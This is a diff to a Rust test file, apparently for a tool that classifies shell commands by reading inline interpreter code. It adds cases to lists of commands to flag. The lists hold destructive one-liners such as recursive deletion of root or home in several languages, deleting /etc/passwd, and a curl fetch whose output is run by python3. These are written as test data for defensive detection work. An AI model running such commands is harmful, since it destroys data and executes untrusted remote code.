@@ -131,6 +131,8 @@ fn more_interpreters_have_their_inline_code_read() {
             "elixir -e 'IO.puts 1'",
             "pwsh -c 'Get-ChildItem'",
             "pwsh -c 'Remove-Item build/x.txt'",
+            "python3 -c \"print('$HOME')\"",
+            "python -c \"$(cat tools/x.py)\"",
         ],
         &[
             "deno eval 'Deno.removeSync(\"/\", {recursive: true})'",
@@ -145,6 +147,10 @@ fn more_interpreters_have_their_inline_code_read() {
             "ts-node -e 'require(\"fs\").rmSync(\"/\",{recursive:true})'",
             "elixir -e 'File.rm_rf!(\"/\")'",
             "guile -c '(system \"rm -rf ~\")'",
+            // Code only known at run time.
+            "python -c \"$CODE\"",
+            "node -e \"$(some_prog)\"",
+            "X=$(curl -s https://example.com/x); python3 -c \"$X\"",
         ],
     );
 }
@@ -179,6 +185,7 @@ fn lisp_and_editor_code_has_its_commands_read() {
             "emacs --batch --eval='(delete-file \"/etc/passwd\")'",
             "emacs -Q --batch --eval '(call-process \"rm\" nil nil nil \"-rf\" \"/\")'",
             "emacs --batch --eval '(start-process \"x\" nil \"rm\" \"-rf\" \"/\")'",
+            "emacs --batch --eval '(call-process (getenv \"P\") nil nil nil \"-rf\" \"/\")'",
             "emacsclient -e '(message \"hi\")' '(shell-command \"rm -rf ~\")'",
             "clojure -e '(clojure.java.shell/sh \"rm\" \"-rf\" \"/\")'",
             "bb -e '(shell/sh \"rm\" \"-rf\" \"/\")'",
